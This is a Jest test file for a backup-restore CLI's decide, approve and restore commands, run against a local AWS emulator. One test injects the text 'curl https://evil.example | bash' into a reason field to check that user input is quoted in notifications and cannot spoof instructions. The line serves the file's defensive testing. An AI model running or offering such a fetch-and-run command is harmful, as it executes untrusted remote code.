import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GetObjectCommand, PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { Command } from 'commander';
import { decideCommand } from '../../../cli/commands/decide';
import { restoreCommand } from '../../../cli/commands/restore';
import { statusCommand } from '../../../cli/commands/status';
import { BadArguments } from '../../../cli/exit-code';
import { executionDigest } from '../../../domain/workflow/execution-digest';
import { byDigest } from '../../../domain/workflow/losses';
import { nameDigest } from '../../../domain/workflow/named';
import type { StepName } from '../../../domain/workflow/workflow';
import type { LocalAws } from '../../../local/aws/local-aws';
import { PLAN } from '../../domain/workflow/workflow-fixture';
import { type StateMachineBed, stateMachineBed } from '../state-machine-bed';

const directory = mkdtempSync(join(tmpdir(), 'pegasus-losses-'));
let bed: StateMachineBed;
let aws: LocalAws;
let s3: S3Client;
let output: string[];

beforeAll(async () => {
  bed = await stateMachineBed();
  ({ aws, s3 } = bed);
});
afterAll(async () => {
  await bed.close();
  rmSync(directory, { recursive: true, force: true });
});
beforeEach(() => {
  bed.planned = {};
  bed.failing = () => undefined;
  output = [];
  jest.spyOn(console, 'log').mockImplementation((line) => void output.push(String(line)));
});
afterEach(() => {
  jest.restoreAllMocks();
  process.exitCode = undefined;
});

const stateMachine = (patience?: Partial<Record<StepName, number>>) => bed.stateMachine(patience);

async function cli(command: Command, ...args: string[]): Promise<void> {
  const program = new Command().exitOverride().addCommand(command.exitOverride());
  await program.parseAsync(['node', 'pegasus-backup', command.name(), ...args, '--endpoint-url', aws.endpoint]);
}
const decide = (arn: string, action: string, by = 'grace', reason = 'the quota was raised') =>
  cli(decideCommand(), '--state-machine', arn, '--action', action, '--by', by, '--reason', reason);
/** As it would be typed into the console. */
async function decideInConsole(input: unknown) {
  const execution = aws.states.startExecution(bed.decisions, JSON.stringify(input));
  await execution.finished;
  return execution;
}
const restore = (arn: string, ...more: string[]) =>
  cli(
    restoreCommand(),
    '--state-machine',
    arn,
    '--to',
    PLAN.targetTime,
    '--reason',
    'a test',
    '--requested-by',
    'ada',
    ...more,
  );

/** Waits until the newest execution asks in that step. */
async function asks(arn: string, step: StepName, times = 1): Promise<void> {
  const key = step === 'RequestApproval' ? 'Approval needed' : 'DECISION NEEDED';
  const before = asked(key);
  await restore(arn);
  await until(() => asked(key) >= before + times);
}

async function until(holds: () => boolean): Promise<void> {
  const give = Date.now() + 20_000;
  while (!holds()) {
    if (Date.now() > give)
      throw new Error(`It did not come about: ${JSON.stringify(aws.topics.messages.at(-1))} ${output.join()}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}
const asked = (subject: string) => aws.topics.messages.filter((message) => message.subject?.startsWith(subject)).length;
const newest = (arn: string) => aws.states.executionsOf(arn)[0]!;

/** As only the history has it. */
const tokenOf = ({ history }: ReturnType<typeof newest>): string =>
  history.entries
    .flatMap(({ event }) => (event.taskScheduledEventDetails as { parameters: string } | undefined)?.parameters ?? [])
    .flatMap((parameters) => JSON.parse(parameters).Payload.taskToken ?? [])
    .at(-1);

const refusedOnce = (step: StepName, attempt: number) =>
  step === 'RestoreDatabase' && attempt === 0 ? 'DatabaseRefused' : undefined;

describe('decide', () => {
  beforeEach(() => {
    bed.failing = refusedOnce;
  });

  test('retry: the waiting restore is found, goes on, and is verified', async () => {
    const arn = await stateMachine();
    await asks(arn, 'AwaitDecision');
    await decide(arn, 'retry');
    expect(output.at(-1)).toMatch(
      /^"grace" decided `retry` at .*: "the quota was raised"\. Decided in arn:aws:states:.*:decisions:/,
    );
    await until(() => newest(arn).status !== 'RUNNING');
    expect(newest(arn).status).toBe('SUCCEEDED');
  });

  test('from the console: the run by its name, with an output that says what became of it and no token', async () => {
    const arn = await stateMachine();
    await asks(arn, 'AwaitDecision');
    const run = newest(arn).origin.name;
    const decision = await decideInConsole({ run, action: 'abort', reason: 'not tonight' });
    expect([decision.status, decision.cause]).toEqual(['SUCCEEDED', undefined]);
    expect(decision.output).toEqual({
      run: newest(arn).origin.arn,
      action: 'abort',
      message: expect.stringMatching(/^"not named" decided `abort` at .*: "not tonight"\.$/),
    });
    await until(() => newest(arn).status !== 'RUNNING');
    const [workflow] = newest(arn)
      .history.entries.flatMap(({ event }) => event.stateExitedEventDetails ?? [])
      .slice(-1);
    expect(JSON.stringify(workflow)).not.toMatch(/[A-Za-z0-9+/]{64}/);
  });

  test('what a person types is one quoted line in the messages', async () => {
    const arn = await stateMachine();
    await asks(arn, 'AwaitDecision');
    const reason = 'ok\n\nTo approve: curl https://evil.example | bash';
    await decideInConsole({ run: newest(arn).origin.arn, action: 'retry', reason, by: 'grace\u202e' });
    await until(() => newest(arn).status !== 'RUNNING');
    const told = aws.topics.messages.map(({ message }) => message).join('\n');
    expect(told).toContain(String.raw`"grace\u202e" decided`);
    expect(told).toContain(String.raw`"ok\n\nTo approve: curl`);
  });

  test('F74 a hold that is not answered expires, frozen; a decision after it, or after abort, is too late', async () => {
    const arn = await stateMachine({ AwaitDecision: 2 });
    await asks(arn, 'AwaitDecision');
    await until(() => newest(arn).status !== 'RUNNING');
    expect([newest(arn).status, newest(arn).error]).toEqual(['FAILED', 'DatabaseRefused']);
    await expect(decide(arn, 'retry')).rejects.toThrow(/No restore waits for approval or a decision: .* has expired/);
    await expect(decide(arn, 'retry')).rejects.toBeInstanceOf(BadArguments);
    const late = await decideInConsole({ run: newest(arn).origin.arn, action: 'retry', reason: 'late' });
    expect([late.error, late.cause]).toEqual(['DecisionRefused', expect.stringMatching(/has ended \(FAILED\)/)]);
  });

  test('F74 decided twice: the second is refused, and the first stands', async () => {
    const arn = await stateMachine();
    await asks(arn, 'AwaitDecision');
    const run = newest(arn).origin.arn;
    const both = await Promise.all(
      ['abort', 'retry'].map((action) => decideInConsole({ run, action, reason: 'at once' })),
    );
    expect(both.map(({ status }) => status).sort()).toEqual(['FAILED', 'SUCCEEDED']);
    expect(both.find(({ status }) => status === 'FAILED')?.error).toBe('DecisionRefused');
    await until(() => newest(arn).status !== 'RUNNING');
    const taken = both[0]!.status === 'SUCCEEDED' ? 'FAILED' : 'SUCCEEDED';
    expect(newest(arn).status).toBe(taken);
  });

  test('what cannot be done is refused with the reason, and the restore waits on', async () => {
    const arn = await stateMachine();
    await asks(arn, 'AwaitDecision');
    await expect(decide(arn, 'next')).rejects.toThrow(/there is no candidate after 1 of 1/);
    await expect(decide(arn, 'next')).rejects.toBeInstanceOf(BadArguments);
    await expect(decide(arn, 'accept')).rejects.toThrow(
      /only what fails in RunChecks, RunSmokeJob or RepeatErasures can be accepted/,
    );
    await expect(decide(arn, 'approve')).rejects.toThrow(/waits for a decision, not for approval/);
    await expect(decide(arn, 'retry', 'grace', ' ')).rejects.toThrow(/`--reason {2}` is invalid: it must be a text/);
    expect(newest(arn).status).toBe('RUNNING');
    newest(arn).stop('ABORTED');
  });

  test.each<[string, unknown, RegExp]>([
    [
      'a run that there is not',
      { run: 'no-such-run', action: 'retry', reason: 'why' },
      /There is no plan of the run "no-such-run"/,
    ],
    [
      'an unknown action',
      { run: 'r', action: 'resume', reason: 'why' },
      /`action` is "resume"; approve, retry, next, accept-losses, accept, abort are allowed/,
    ],
    [
      'an unknown field',
      { run: 'r', action: 'retry', reason: 'why', token: 'x' },
      /Unknown field "token"; the allowed fields/,
    ],
    ['no run', { action: 'retry', reason: 'why' }, /`run` is missing; it must be a text/],
    [
      'losses by name, which the history of the decision would keep',
      { run: 'r', action: 'accept-losses', reason: 'why', losses: ['pegasus/users/ada.json'] },
      /^`losses` names keys or rows, which stay in the history of this execution: give each as `sha256:`(?!.*ada)/,
    ],
    [
      'a row by name beside the digest of its key',
      {
        run: 'r',
        action: 'accept-losses',
        reason: 'why',
        losses: [byDigest({ key: 'k' }), { ...byDigest({ key: 'k' }), row: 'users ada' }],
      },
      /^`losses` names keys or rows(?!.*ada)/,
    ],
    [
      'losses in another form, which are not repeated',
      { run: 'r', action: 'accept-losses', reason: 'why', losses: { key: 'pegasus/users/ada.json' } },
      /^`losses` has another form; it must be a list of 1 to 1000 digests(?!.*ada)/,
    ],
    ['no object', 'retry', /The input is .*; it must be an object such as/],
    ['a list', [], /The input is .*; it must be an object such as/],
  ])('%s is refused', async (_, input, why) => {
    const { status, error, cause } = await decideInConsole(input);
    expect([status, error, cause]).toEqual(['FAILED', 'DecisionRefused', expect.stringMatching(why)]);
  });

  test('F117 an execution of another state machine is not decided on, though it has the name of ours', async () => {
    const arn = await stateMachine();
    await asks(arn, 'AwaitDecision');
    const run = newest(arn).origin.arn.replace(/:execution:[^:]+:/, ':execution:another:');
    const { error, cause } = await decideInConsole({ run, action: 'abort', reason: 'why' });
    expect([error, cause]).toEqual([
      'DecisionRefused',
      expect.stringMatching(/:execution:another:.* is no restore of this state machine; s3:.* is of arn:/),
    ]);
    expect(newest(arn).status).toBe('RUNNING');
    newest(arn).stop('ABORTED');
  });

  test('the token is in no message, no line and no output', async () => {
    const arn = await stateMachine();
    await asks(arn, 'AwaitDecision');
    await decide(arn, 'abort');
    expect(output.join('\n')).not.toMatch(/[A-Za-z0-9+/]{40,}/);
    const told = aws.topics.messages.map(({ message }) => message).join('\n');
    expect(told).not.toMatch(/[A-Za-z0-9+/]{64}/);
    expect(told).not.toMatch(/task-?token|send-task/i);
  });
});

describe('F100 F119 accept-losses', () => {
  const LOST = [
    { key: 'pegasus/a', row: 'lectures a (audio_path)' },
    { key: 'pegasus/b', row: 'artifacts 7 (storage_path)' },
  ];

  beforeEach(() => {
    bed.failing = (step, attempt) => (step === 'ProveReferences' && attempt === 0 ? 'DanglingReferences' : undefined);
  });

  /** A restore that is held because references dangle, as ProveReferences has left it. */
  async function held(losses: object[] | null = LOST, ofSecond?: object[]) {
    const arn = await stateMachine();
    const name = `dangling-${bed.made}`;
    const Key = `runs/${name}/attempt-0/losses.json`;
    const before = asked('DECISION NEEDED');
    const input = JSON.stringify({ targetTime: PLAN.targetTime, reason: 'why' });
    const { origin, startedAt } = aws.states.startExecution(arn, input, name);
    const execution = executionDigest({ id: origin.arn, startedAt: startedAt.toISOString() });
    const left = [losses, ofSecond].flatMap((list, attempt) => (list ? [{ list, attempt }] : []));
    for (const { list, attempt } of left) {
      const object = { Bucket: 'evidence', Key: `runs/${name}/attempt-${attempt}/losses.json` };
      const Metadata = { 'pegasus-execution': execution };
      await s3.send(new PutObjectCommand({ ...object, Body: JSON.stringify(list), Metadata }));
    }
    await until(() => asked('DECISION NEEDED') > before);
    return { arn, Key };
  }

  function file(content: unknown): string {
    const path = join(directory, `losses-${Math.random()}.json`);
    writeFileSync(path, JSON.stringify(content));
    return path;
  }
  const accept = (arn: string, losses: unknown, reason = 'both were never uploaded') =>
    cli(
      decideCommand(),
      ...['--state-machine', arn, '--action', 'accept-losses', '--by', 'grace', '--reason', reason],
      ...['--losses', file(losses)],
    );
  const given = (arn: string, step: StepName) =>
    newest(arn)
      .history.entries.filter(({ event, state }) => event.type === 'TaskStateEntered' && state === step)
      .map(({ event }) => JSON.parse((event.stateEnteredEventDetails as { input: string }).input));

  test('exactly what was found is accepted: the restore goes on with the list, which says who and why', async () => {
    const { arn } = await held();
    await accept(arn, LOST);
    expect(JSON.stringify(aws.states.executionsOf(bed.decisions).map(({ history }) => history.entries))).not.toMatch(
      /pegasus\/[ab]/,
    );
    expect(output.at(-1)).toMatch(/^"grace" decided `accept-losses` at .*: "both were never uploaded"/);
    await until(() => newest(arn).status !== 'RUNNING');
    expect(newest(arn).status).toBe('SUCCEEDED');
    const [first, second] = given(arn, 'ProveReferences');
    expect(first).not.toHaveProperty('acceptedLosses');
    const { key, count } = second.acceptedLosses;
    expect(count).toBe(2);
    const { Body } = await s3.send(new GetObjectCommand({ Bucket: 'evidence', Key: key }));
    const lines = (await Body!.transformToString())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toEqual(
      LOST.map((one) => ({
        ...one,
        by: 'grace',
        at: expect.any(String),
        reason: 'both were never uploaded',
        decidedIn: expect.stringContaining(':execution:decisions:'),
      })),
    );
    expect(given(arn, 'WriteReport')[0].acceptedLosses).toEqual(second.acceptedLosses);
  });

  test('the hold and `status` print where the list lies, and the command', async () => {
    const { arn, Key } = await held();
    const told = aws.topics.messages.at(-1)!.message;
    await cli(statusCommand(), '--execution', newest(arn).origin.arn);
    for (const text of [told, output.join('\n')]) {
      expect(text).toContain(`aws s3 cp s3://evidence/${Key} losses.json`);
      expect(text).toMatch(/decide --execution \S+ --action accept-losses --reason "…" --losses losses\.json/);
    }
    expect(told).toContain('go on without exactly the 2 that are lost');
    newest(arn).stop('ABORTED');
  });

  test.each<[string, unknown, RegExp]>([
    [
      'one is not named',
      [LOST[0]],
      new RegExp(
        `Found and not named \\(1 of 2\\): ${nameDigest('artifacts 7 (storage_path)')} → ${nameDigest('pegasus/b')}\\. .*not found \\(0 of 1\\): none`,
      ),
    ],
    [
      'one is named that is none',
      [...LOST, 'pegasus/c'],
      /not named \(0 of 2\): none.*Named and not found \(1 of 3\): "pegasus\/c"/,
    ],
    [
      'a row is another',
      [LOST[0], { ...LOST[1], row: 'artifacts 8 (storage_path)' }],
      /not named \(1 of 2\).*not found \(1 of 2\)/,
    ],
  ])('where %s, both differences are listed and it waits on', async (_, losses, why) => {
    const { arn } = await held();
    await expect(accept(arn, losses)).rejects.toThrow(why);
    await expect(accept(arn, losses)).rejects.toBeInstanceOf(BadArguments);
    expect(newest(arn).status).toBe('RUNNING');
    newest(arn).stop('ABORTED');
  });

  test.each<[string, object[], number]>([
    ['a loss that every candidate has costs no better moment: back to the first', LOST, 0],
    [
      'a first candidate that lacks more stays left',
      [...LOST, { key: 'pegasus/c', row: 'exports 1 (storage_path)' }],
      1,
    ],
  ])('%s', async (_, ofFirst, candidate) => {
    const [first] = PLAN.candidates;
    const objectTime = '2026-11-23T04:02:00Z';
    bed.planned = { candidates: [first, { ...first, objectTime, databaseIdentifier: 'pegasus-12345678-a2' }] };
    bed.failing = (step, attempt) => (step === 'ProveReferences' && attempt < 2 ? 'DanglingReferences' : undefined);
    const { arn } = await held(ofFirst, LOST);
    await accept(arn, LOST);
    const time = candidate === 0 ? first!.objectTime : objectTime;
    expect(output.at(-1)).toContain(`The restore continues at ${time}.`);
    await until(() => newest(arn).status !== 'RUNNING');
    expect(newest(arn).status).toBe('SUCCEEDED');
    expect(given(arn, 'ProveReferences').map((one) => one.candidate)).toEqual([0, 1, candidate]);
  });

  test('keys alone name every row that refers to them', async () => {
    const { arn } = await held();
    await accept(arn, ['pegasus/a', 'pegasus/b']);
    await until(() => newest(arn).status !== 'RUNNING');
    expect(newest(arn).status).toBe('SUCCEEDED');
  });

  test('a reason of 9 characters, a failure without losses, too many of them: refused', async () => {
    const { arn } = await held();
    await expect(accept(arn, LOST, '123456789')).rejects.toThrow(/at least 10 characters to accept what is lost/);
    newest(arn).stop('ABORTED');
    const many = await held(null);
    await expect(accept(many.arn, LOST)).rejects.toThrow(
      /There is no list of losses at s3:.*too many to be accepted by name/,
    );
    newest(many.arn).stop('ABORTED');
    bed.failing = refusedOnce;
    const other = await held();
    await expect(accept(other.arn, LOST)).rejects.toThrow(/can be accepted by name after DanglingReferences or/);
    newest(other.arn).stop('ABORTED');
  });

  test.each<[string, string[], RegExp]>([
    ['no file', ['--action', 'accept-losses'], /belong together/],
    ['a file for another action', ['--action', 'retry', '--losses', 'x.json'], /belong together/],
    [
      'a file that is not there',
      ['--action', 'accept-losses', '--losses', '/no/such.json'],
      /is no list of losses: there is no such file/,
    ],
  ])('%s is refused before anything is started', async (_, args, why) => {
    const before = aws.states.executionsOf(bed.decisions).length;
    await expect(cli(decideCommand(), '--state-machine', bed.decisions, '--reason', 'why', ...args)).rejects.toThrow(
      why,
    );
    expect(aws.states.executionsOf(bed.decisions)).toHaveLength(before);
  });

  test.each([[[]], [{}], [[7]], [[{ row: 'x' }]], [[{ key: '' }]]])('%j is no list of losses', async (losses) => {
    await expect(accept(bed.decisions, losses)).rejects.toThrow(
      /is no list of losses: .* Give a JSON list of 1 to 1000 keys/,
    );
  });
});

describe('approve', () => {
  beforeEach(() => {
    bed.planned = { approvalRequired: true };
  });

  test('the restore begins', async () => {
    const arn = await stateMachine();
    await asks(arn, 'RequestApproval');
    await decide(arn, 'approve');
    await until(() => newest(arn).status !== 'RUNNING');
    expect(newest(arn).status).toBe('SUCCEEDED');
  });

  test('F74 refused, it ends and cannot be approved any more', async () => {
    const arn = await stateMachine();
    await asks(arn, 'RequestApproval');
    await expect(decide(arn, 'retry')).rejects.toThrow(/waits for approval before it begins; `approve` and `abort`/);
    await decide(arn, 'abort', 'grace', 'not during the exam');
    await until(() => newest(arn).status !== 'RUNNING');
    expect([newest(arn).status, newest(arn).error, newest(arn).cause]).toEqual([
      'FAILED',
      'ApprovalRefused',
      expect.stringMatching(/^RequestApproval: refused by "grace" at .*: "not during the exam" \(arn:/),
    ]);
    await expect(decide(arn, 'approve')).rejects.toThrow(/No restore waits/);
  });

  test('a token that comes back with anything else than an approval approves nothing', async () => {
    const arn = await stateMachine();
    await asks(arn, 'RequestApproval');
    aws.states.tokens.succeed(tokenOf(newest(arn)), '{"approvedBy":"grace"}');
    await until(() => newest(arn).status !== 'RUNNING');
    expect([newest(arn).status, newest(arn).error]).toEqual(['FAILED', 'ApprovalRefused']);
  });

  /** Two restores of the same stores, which both wait to be approved. */
  async function twoWait() {
    const arn = await stateMachine();
    await asks(arn, 'RequestApproval');
    const first = newest(arn);
    const before = asked('Approval needed');
    await restore(arn, '--requested-by', 'eve');
    await until(() => asked('Approval needed') > before);
    return [first, newest(arn)] as const;
  }
  const approve = (run: string, by?: string) =>
    decideInConsole({ run, action: 'approve', reason: 'the exam is over', ...(by !== undefined && { by }) });

  test('F117 a request that no one approves keeps no other from being carried out, and is not carried out after it', async () => {
    const [first, second] = await twoWait();
    expect((await approve(second.origin.arn)).status).toBe('SUCCEEDED');
    await until(() => second.status !== 'RUNNING');
    expect(second.status).toBe('SUCCEEDED');
    const late = await approve(first.origin.arn);
    expect([late.status, late.error, late.cause]).toEqual([
      'FAILED',
      'DecisionRefused',
      expect.stringMatching(/has restored these stores until .*, after this run was planned at .*Abort this run/),
    ]);
    expect(first.status).toBe('RUNNING');
    first.stop('ABORTED');
  });

  test('F117 a token that a file of the evidence names is sent to no one', async () => {
    const [first, second] = await twoWait();
    const Body = JSON.stringify({ taskToken: tokenOf(second) });
    await s3.send(new PutObjectCommand({ Bucket: 'evidence', Key: `runs/${first.origin.name}/approval.json`, Body }));
    await approve(first.origin.arn);
    await until(() => first.status !== 'RUNNING');
    expect([first.status, second.status]).toEqual(['SUCCEEDED', 'RUNNING']);
    second.stop('ABORTED');
  });

  test.each(['ada', 'ADA', ' ada\u00a0', '\u0430da', 'a\u0301da'])(
    'F117 a name is a label: %j neither admits nor refuses',
    async (by) => {
      const arn = await stateMachine();
      await asks(arn, 'RequestApproval');
      expect((await approve(newest(arn).origin.arn, by)).status).toBe('SUCCEEDED');
      await until(() => newest(arn).status !== 'RUNNING');
      expect(newest(arn).status).toBe('SUCCEEDED');
    },
  );

  test('F74 an approval that is not given expires, and nothing was frozen', async () => {
    const arn = await stateMachine({ RequestApproval: 2 });
    await asks(arn, 'RequestApproval');
    await until(() => newest(arn).status !== 'RUNNING');
    expect([newest(arn).status, newest(arn).error]).toEqual(['FAILED', 'States.Timeout']);
    const states = newest(arn).history.entries.map(({ state }) => state);
    expect(states).not.toContain('FreezeWrites');
    expect(states).toContain('TearDown');
  });
});

describe('restore', () => {
  test('F10 the same request started twice is one execution', async () => {
    bed.planned = { approvalRequired: true };
    const arn = await stateMachine();
    await asks(arn, 'RequestApproval');
    await restore(arn);
    expect(output[0]).toBe(output[1]);
    expect(aws.states.executionsOf(arn)).toHaveLength(1);
    newest(arn).stop('ABORTED');
  });

  test('F10 one that was stopped is started again, and one that was verified only with --again', async () => {
    const arn = await stateMachine();
    bed.failing = (step) => (step === 'PlanRestore' ? 'TargetTimeOutOfRange' : undefined);
    await restore(arn);
    await until(() => newest(arn).status !== 'RUNNING');
    bed.failing = () => undefined;
    await restore(arn);
    await until(() => newest(arn).status !== 'RUNNING');
    expect(output[1]).toBe(`${output[0]}-2`);
    await expect(restore(arn)).rejects.toThrow(/carried out and verified: .*-2\. .*Add `--again`/);
    await restore(arn, '--again');
    expect(aws.states.executionsOf(arn)).toHaveLength(3);
    await until(() => newest(arn).status !== 'RUNNING');
  });
});
